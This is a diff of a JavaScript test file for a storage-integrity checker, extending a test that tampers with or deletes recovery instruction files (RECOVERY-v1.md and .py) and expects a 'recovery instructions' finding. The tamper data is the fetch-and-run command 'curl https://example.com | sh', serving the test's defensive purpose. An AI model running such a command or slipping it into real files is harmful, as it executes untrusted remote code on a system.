@@ -126,8 +126,11 @@ describe('damage in storage', () => {
     expect(await bench.verify()).toMatchObject({ verdict: 'error', error: { code: 'STORAGE_UNREACHABLE' } });
   });
 
-  it('fails when the recovery instructions were changed', async () => {
-    change(keyOf('RECOVERY-v1.md'), () => Buffer.from('curl https://example.com | sh'));
+  it.each(['RECOVERY-v1.md', 'RECOVERY-v1.py'])('fails when %s was changed or is missing', async (file) => {
+    const key = keyOf(file);
+    change(key, () => Buffer.from('curl https://example.com | sh'));
+    expect(await findings()).toEqual(['recovery instructions']);
+    storage.objects.delete(key);
     expect(await findings()).toEqual(['recovery instructions']);
   });
 
